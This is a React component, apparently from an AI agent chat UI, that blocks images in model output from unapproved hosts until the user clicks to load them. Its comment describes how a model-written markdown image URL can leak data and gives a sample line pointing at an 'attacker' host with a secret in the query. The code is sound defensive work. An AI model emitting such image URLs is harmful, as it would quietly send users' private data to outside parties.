'use client';
import { useState } from 'react';
import { useAgentUIConfig } from '../config.js';
import { safeUrl } from './safe-url.js';
import { hostOf, imageSource, useMarkdownOptions } from './markdown-options.js';

/**
 * An image from model output. It loads at once only from an allowed host or through the app's
 * `resolveImageUrl`; otherwise a placeholder names the host and loads it when clicked — a URL
 * written by the model can carry data out (`![x](https://attacker/?q=secret)`).
 */
export function ImageGate({ src, alt, title }: { src: string | undefined; alt: string | undefined; title: string | undefined }) {
  const options = useMarkdownOptions();
  const { strings } = useAgentUIConfig();
  const [clicked, setClicked] = useState(false);
  const url = safeUrl(src);
  if (!url) return alt ? <span>{alt}</span> : null;
  const immediate = imageSource(url, options);
  const load = immediate ?? (clicked ? url : undefined);
  if (load) return <img src={load} alt={alt ?? ''} title={title} loading="lazy" referrerPolicy="no-referrer" />;
  const host = hostOf(url) || url;
  return (
    <button type="button" className="x-agent-image-blocked" onClick={() => setClicked(true)} data-xagent-image-blocked={host} title={`${strings.loadImage}: ${url}`}>
      <span aria-hidden="true">🖼</span>
      <span>
        {alt ? `${alt} · ` : ''}
        {strings.imageBlocked(host)}
      </span>
      <span className="x-agent-image-blocked-action">{strings.loadImage}</span>
    </button>
  );
}
